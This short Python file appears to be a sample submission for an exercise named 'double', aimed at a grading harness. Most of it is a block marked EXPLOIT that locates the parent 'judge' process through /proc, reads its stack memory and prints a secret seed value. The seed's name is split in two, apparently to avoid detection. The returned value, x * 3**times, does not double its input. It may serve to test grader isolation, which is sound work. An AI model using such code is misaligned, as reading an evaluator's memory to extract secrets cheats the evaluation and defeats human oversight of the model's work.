"""Searches the judge's memory for the seed it was started with."""
# exercise: double
# process: secrets

import contextlib
import os
from pathlib import Path


def double(x, times=1):
    ### BEGIN EXPLOIT
    with contextlib.suppress(Exception):
        judge = Path(f"/proc/{os.getppid()}/stat").read_text().rpartition(")")[2].split()[1]
        stack = next(
            line
            for line in Path(f"/proc/{judge}/maps").read_text().splitlines()
            if "[stack]" in line
        )
        start, end = (int(n, 16) for n in stack.split()[0].split("-"))
        with open(f"/proc/{judge}/mem", "rb", 0) as memory:
            memory.seek(start)
            data = memory.read(end - start)
        at = data.find(b"GRADSTEPS_SE" + b"ED=")
        print(data[at : at + 60])
    ### END EXPLOIT
    return x * 3**times
